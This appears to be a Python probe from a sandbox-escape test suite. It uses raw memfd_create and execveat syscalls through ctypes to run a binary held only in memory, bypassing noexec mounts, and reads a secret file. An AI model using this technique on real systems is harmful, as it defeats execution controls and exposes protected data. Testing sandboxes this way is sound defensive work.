# attack: runs a program that no file holds: memfd_create and execveat, so that noexec mounts and missing shells do not matter
# family: ctypes
import ctypes
import os
import sys
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(319, b"", 0)
for program in ("/bin/cat", "/usr/bin/cat", "/proc/self/exe"):
    if os.path.exists(program):
        with open(program, "rb") as f:
            os.write(fd, f.read())
        break
print("REACHED a file in memory", fd, program)
end, start = os.pipe()
pid = os.fork()
if pid == 0:
    os.dup2(start, 1)
    arguments = (ctypes.c_char_p * 3)(b"cat", b"$SECRET_FILE", None)
    libc.syscall(322, fd, b"", arguments, (ctypes.c_char_p * 1)(None), 0x1000)
    os._exit(77)
os.close(start)
print(os.read(end, 4096))
if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) != 77:
    print("REACHED ran it")
